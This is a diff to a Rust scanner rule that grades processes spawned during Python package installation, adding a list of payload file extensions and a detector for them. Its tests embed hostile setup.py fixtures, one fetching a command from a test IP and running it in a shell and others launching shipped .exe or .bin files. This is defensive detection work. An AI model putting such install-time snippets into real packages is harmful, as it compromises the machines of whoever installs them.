@@ -14,10 +14,13 @@ pub static INFO: RuleInfo = RuleInfo {
     summary: "A process is spawned at install time (setup.py, build backend, .pth)",
     help: "Reports subprocess/os.system/os.popen/exec*/spawn* calls in code that runs while the \
            package is installed: setup.py (top level, helpers and cmdclass run() overrides), \
-           in-tree build backends and .pth files. Build tools (compilers, git, cmake, make, \
-           pkg-config, the running Python) are reported as info; other commands as medium; \
+           in-tree build backends and .pth files. Build and packaging tools (compilers, git, \
+           cmake, make, ninja, pkg-config, the running Python, twine, pip) are reported as info; \
+           commands held in variables that cannot be resolved statically (compiler probes \
+           such as `cxx + ['-x', 'c++']`) as low; other constant commands as medium; \
            commands that fetch or run remote content, shells with inline scripts, hidden or \
-           detached processes, and commands built from decoded data as high. Installing a \
+           detached processes, commands that run a native binary or script-host file (.exe, \
+           .bin, .dll, .vbs, .ps1...) and commands built from decoded data as high. Installing a \
            package should not need to run arbitrary programs.",
 };
 
@@ -94,6 +97,14 @@ const BUILD_TOOLS: &[&str] = &[
     "mvn",
     "lipo",
     "sphinx-build",
+    "twine",
+    "pip",
+    "pip3",
+    "tox",
+    "nox",
+    "hatch",
+    "flit",
+    "poetry",
 ];
 
 const HOSTILE: &[&str] = &[
@@ -144,7 +155,13 @@ pub fn classify(cmd: &str) -> u8 {
     {
         return 2;
     }
-    if BUILD_TOOLS.contains(&base) || first == "sys.executable" || base.starts_with("python3.") {
+    // `pkg_config = os.environ.get('PKG_CONFIG', 'pkg-config')` keeps its variable name.
+    let tool = base.replace('_', "-");
+    if BUILD_TOOLS.contains(&base)
+        || BUILD_TOOLS.contains(&tool.as_str())
+        || first == "sys.executable"
+        || base.starts_with("python3.")
+    {
         // A build tool fetching from the network (`git clone https://...`) is worth a look.
         return u8::from(url);
     }
@@ -152,6 +169,21 @@ pub fn classify(cmd: &str) -> u8 {
         return 2;
     }
     1
+}
+
+/// File extensions of native executables and script hosts that have no business being run by
+/// an installer.
+const PAYLOAD_EXT: &[&str] = &[
+    ".exe", ".bin", ".dll", ".scr", ".vbs", ".vbe", ".jse", ".hta", ".ps1", ".elf",
+];
+
+/// Whether one word of a command names a payload file (`payload.exe`, `C:\\x\\a.vbs`).
+fn runs_payload(text: &str) -> bool {
+    text.split_whitespace().any(|w| {
+        let w = w.trim_matches(['"', '\'']).to_ascii_lowercase();
+        let file = w.rsplit(['/', '\\']).next().unwrap_or(&w);
+        file.len() > 4 && PAYLOAD_EXT.iter().any(|e| file.ends_with(e))
+    })
 }
 
 pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
@@ -177,13 +209,34 @@ pub fn check(cx: &FileCx<'_>, out: &mut Emitter<'_>) {
             Some(cmd) => classify(cmd),
             None => 1,
         };
+        // The command is only partly known when its first argument did not fold to a
+        // constant: a variable (`args`, `[pkg_config, option]`), `cxx + [...]`. Such
+        // commands are how setup.py probes compilers and pkg-config; a hostile one shows up
+        // as a hostile word, a URL, taint or detaching, which are graded high regardless.
+        let resolved = c
+            .args
+            .first()
+            .or_else(|| c.kw("args"))
+            .is_some_and(|a| a.folded.is_some());
         let tainted = c.arg_taint() & (DECODED | NET) != 0 || c.note.is_some();
-        let (sev, what) = if tainted || class == 2 || hidden {
+        // Running a shipped or dropped native binary or script-host file at install time
+        // (`os.path.join(here, 'payload.exe')`), however the path is put together.
+        let runs_binary = c
+            .args
+            .iter()
+            .chain(c.kwargs.iter().map(|(_, a)| a))
+            .flat_map(|a| a.atoms.iter().cloned().chain(a.text()))
+            .any(|t| runs_payload(&t))
+            // `cl.exe /c x.c` is the compiler itself.
+            && class != 0;
+        let (sev, what) = if tainted || class == 2 || hidden || runs_binary {
             (Severity::High, "a suspicious process")
-        } else if class == 1 {
-            (Severity::Medium, "a process")
-        } else {
+        } else if class == 0 {
             (Severity::Info, "a build tool")
+        } else if !resolved {
+            (Severity::Low, "a process (command not statically known)")
+        } else {
+            (Severity::Medium, "a process")
         };
         let shown = cmd
             .as_deref()
@@ -237,5 +290,62 @@ mod tests {
         assert_eq!(classify("git clone https://example.invalid/dep.git"), 1);
         assert_eq!(classify("/tmp/x https://example.invalid/a"), 2);
         assert_eq!(classify("chmod +x configure"), 1);
+    }
+
+    #[test]
+    fn cffi_pillow_grpcio_requests_build_probes_are_not_medium() {
+        let cffi = "import os, subprocess\ndef _ask_pkg_config(option):\n    pkg_config = os.environ.get('PKG_CONFIG','pkg-config')\n    p = subprocess.Popen([pkg_config, option, 'libffi'], stdout=subprocess.PIPE)\n";
+        let pillow = "import subprocess\ndef f(ldconfig):\n    args = [ldconfig, '-p']\n    p = subprocess.Popen(args, stdout=subprocess.PIPE, text=True)\n";
+        let grpc = "import os, shlex, subprocess\nfrom subprocess import PIPE\ndef check():\n    cxx = shlex.split(os.environ.get('CXX', 'c++'))\n    cpp_test = subprocess.Popen(cxx + ['-x', 'c++', '-std=c++14', '-'], stdin=PIPE, stdout=PIPE, stderr=PIPE)\n";
+        let requests = "import os, sys\nif sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist bdist_wheel')\n    os.system('twine upload dist/*')\n    sys.exit()\n";
+        for src in [cffi, pillow, grpc, requests] {
+            let sev = worst("install-hook-process", "pkg-1.0/setup.py", src);
+            assert!(sev.is_some_and(|s| s <= Severity::Low), "{sev:?}: {src}");
+        }
+    }
+
+    #[test]
+    fn unknown_constant_or_hostile_commands_stay_graded() {
+        let unknown = "import subprocess\nsubprocess.call(['/tmp/.x/agent', '--quiet'])\n";
+        assert_eq!(
+            worst("install-hook-process", "pkg-1.0/setup.py", unknown),
+            Some(Severity::Medium)
+        );
+        // A variable command that is detached or built from fetched data is still high.
+        let detached =
+            "import subprocess\ndef f(cmd):\n    subprocess.Popen(cmd, start_new_session=True)\n";
+        assert_eq!(
+            worst("install-hook-process", "pkg-1.0/setup.py", detached),
+            Some(Severity::High)
+        );
+        let fetched = "import subprocess, urllib.request\ncmd = urllib.request.urlopen('http://192.0.2.1/c').read().decode()\nsubprocess.call(cmd, shell=True)\n";
+        assert_eq!(
+            worst("install-hook-process", "pkg-1.0/setup.py", fetched),
+            Some(Severity::High)
+        );
+        assert_eq!(classify("pkg_config --libs libffi"), 0);
+        assert_eq!(classify("twine upload dist/*"), 0);
+        assert_eq!(classify("wget_tool http://192.0.2.1/x"), 2);
+    }
+
+    #[test]
+    fn running_a_shipped_binary_from_setup_py_is_high_even_when_the_path_is_computed() {
+        let via_var = "import os, subprocess\nhere = os.path.dirname(os.path.abspath(__file__))\nexe = os.path.join(here, 'assets', 'payload.exe')\nsubprocess.Popen([exe])\n";
+        let inline = "import os, subprocess\nhere = os.path.dirname(__file__)\nsubprocess.call(os.path.join(here, 'helper.bin'))\n";
+        for src in [via_var, inline] {
+            assert_eq!(
+                worst("install-hook-process", "pkg-1.0/setup.py", src),
+                Some(Severity::High),
+                "{src}"
+            );
+        }
+        assert!(super::runs_payload("wscript C:\\Temp\\a.vbs"));
+        assert!(!super::runs_payload("gcc -o build/ext.so x.c"));
+        assert!(!super::runs_payload("git clone https://example.com"));
+        let msvc = "import subprocess\nsubprocess.check_call(['cl.exe', '/c', 'probe.c'])\n";
+        assert_eq!(
+            worst("install-hook-process", "pkg-1.0/setup.py", msvc),
+            Some(Severity::Info)
+        );
     }
 }
